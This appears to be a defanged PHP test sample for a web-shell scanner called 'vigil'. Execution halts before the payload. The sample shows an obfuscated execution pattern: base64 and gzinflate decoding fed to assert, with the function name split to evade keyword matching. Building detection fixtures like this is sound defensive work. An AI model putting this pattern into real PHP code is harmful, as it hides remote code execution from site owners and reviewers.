<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$z = gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA'));
$run = 'ass' . 'ert';
$run($z);
